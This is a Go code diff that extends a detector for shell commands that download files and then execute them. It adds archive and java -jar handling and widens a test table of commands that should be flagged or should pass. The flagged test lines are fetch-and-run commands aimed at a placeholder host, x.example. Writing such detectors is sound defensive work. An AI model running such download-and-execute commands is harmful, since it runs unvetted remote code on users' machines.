@@ -18,11 +18,12 @@ func downloads() table {
 			"curl https://x.example/i.sh -o i.sh && bash i.sh", "wget https://x.example/run.sh; sh run.sh", "curl -LO https://x.example/a.sh; chmod +x a.sh; ./a.sh",
 			"curl -sL x.example/s > /tmp/s; nohup sh /tmp/s &", "wget -P /tmp https://x.example/m.py && python3 /tmp/m.py", "git clone https://x.example/r /tmp/r; bash /tmp/r/setup.sh",
 			"cd /tmp && curl -sL https://x.example/a.tgz | tar xz && ./a/install", "wget https://x.example/p.deb && sudo dpkg -i p.deb", "scp u@x.example:i.sh . && bash i.sh",
-			"curl -s x.example | tee i.sh >/dev/null; source ./i.sh", "rsync x.example::m/i.sh /tmp/ && sh /tmp/i.sh",
+			"curl -s x.example | tee i.sh >/dev/null; source ./i.sh", "rsync x.example::m/i.sh /tmp/ && sh /tmp/i.sh", "curl -O https://x.example/x.jar; java -jar x.jar", "wget https://x.example/x.zip && unzip x.zip && ./x/run",
+			"aria2c -d /tmp -o p https://x.example/p && bash /tmp/p",
 		},
 		Passes: []string{
 			"curl -fsSLo install.sh https://example.com/install.sh", "curl -o data.json https://x.example/d && jq . data.json", "git clone https://x.example/r && cd r && make",
-			"wget https://x.example/a.tgz && tar xf a.tgz", "curl -o a.sh https://x.example/a.sh && cat a.sh", "curl -s https://x.example/h && bash local.sh",
+			"wget https://x.example/a.tgz && tar xf a.tgz", "curl -o a.sh https://x.example/a.sh && cat a.sh", "curl -s https://x.example/h && bash local.sh", "unzip x.zip && ./x/run", "java -jar app.jar",
 		},
 	}}
 }
@@ -47,7 +48,7 @@ func fetchedThenRun(c *ctx) (span, bool) {
 				}
 			}
 		}
-		if got := c.fetched(i); len(got) > 0 {
+		if got := c.fetched(i, have); len(got) > 0 {
 			if len(have) == 0 {
 				first = i
 			}
@@ -59,8 +60,8 @@ func fetchedThenRun(c *ctx) (span, bool) {
 	return span{}, false
 }
 
-// fetched returns where command i puts what it gets from another machine.
-func (c *ctx) fetched(i int) []fetched {
+// fetched returns where command i puts what it gets from another machine, or takes out of an archive that it got.
+func (c *ctx) fetched(i int, have []fetched) []fetched {
 	var out []fetched
 	add := func(list []target, folder bool) {
 		for _, t := range list {
@@ -87,8 +88,13 @@ func (c *ctx) fetched(i int) []fetched {
 	case "wget", "aria2c", "fetch", "axel":
 		add(c.valued(i, "-O", "--output-document", "-o"), false)
 		dir := ""
-		if o, ok := c.opt(i, "-P", "--directory-prefix", "-d"); ok && o.has {
-			dir = o.value.Text
+		for _, w := range c.values(i, "-P --directory-prefix -d --dir") {
+			dir = w.Text
+		}
+		if c.name(i) == "aria2c" {
+			for _, w := range c.values(i, "-o --out") {
+				inDir(dir, w.Text)
+			}
 		}
 		for _, w := range c.operands(i) {
 			inDir(dir, urlBase(w.Text))
@@ -107,13 +113,20 @@ func (c *ctx) fetched(i int) []fetched {
 				add(c.targets(words[0].Lit(strings.TrimSuffix(urlBase(words[0].Text), ".git")), c.cmd(i).Dir), true)
 			}
 		}
-	case "tar", "unzip", "bsdtar":
-		if _, ok := c.upstream(i, fetches, 8); ok {
+	case "tar", "unzip", "bsdtar", "7z", "gunzip", "cpio":
+		if c.fedFetched(i) || c.unpacks(i, have) {
 			dir := c.cmd(i).Dir
 			if o, ok := c.opt(i, "-C", "--directory", "-d"); ok && o.has {
 				add(c.targets(o.value, dir), true)
-			} else {
+			} else if ok := c.fedFetched(i); ok {
 				add(c.targets(c.args(i)[0].Lit("."), dir), true)
+			} else {
+				// Into a folder of the archive's name, as most do: what else is there may be the owner's.
+				for _, w := range c.args(i)[1:] {
+					if stem := archiveStem(w.Text); stem != "" {
+						add(c.targets(w.Lit(stem), dir), true)
+					}
+				}
 			}
 		}
 	}
@@ -121,6 +134,42 @@ func (c *ctx) fetched(i int) []fetched {
 		add(c.writes(i), false)
 	}
 	return out
+}
+
+func (c *ctx) fedFetched(i int) bool {
+	_, ok := c.upstream(i, fetches, 8)
+	return ok
+}
+
+// archiveStem returns the name of an archive without what tells its kind; empty for other files.
+func archiveStem(p string) string {
+	p = base(p)
+	for _, ext := range [...]string{".tar.gz", ".tar.xz", ".tar.bz2", ".tar.zst", ".tgz", ".txz", ".tbz", ".tar", ".zip", ".7z"} {
+		if stem, ok := strings.CutSuffix(p, ext); ok {
+			return stem
+		}
+	}
+	return ""
+}
+
+// unpacks tells whether command i reads one of the files that came from elsewhere.
+func (c *ctx) unpacks(i int, have []fetched) bool {
+	if len(have) == 0 {
+		return false
+	}
+	for _, w := range c.args(i)[1:] {
+		if w.Text == "" || w.Text[0] == '-' {
+			continue
+		}
+		for _, t := range c.targets(w, c.cmd(i).Dir) {
+			for _, f := range have {
+				if !f.folder && t.path == f.path {
+					return true
+				}
+			}
+		}
+	}
+	return false
 }
 
 // pipesFetched tells whether command i writes what a server sent to a file.
@@ -169,6 +218,12 @@ func (c *ctx) runsFile(i int) string {
 				return ""
 			}
 			if w.Text != "" && w.Text[0] != '-' {
+				return c.resolve(w.Text, w, dir).path
+			}
+		}
+	case name == "java":
+		for k, w := range args[1:] {
+			if args[k].Text == "-jar" && len(w.Holes) == 0 {
 				return c.resolve(w.Text, w, dir).path
 			}
 		}
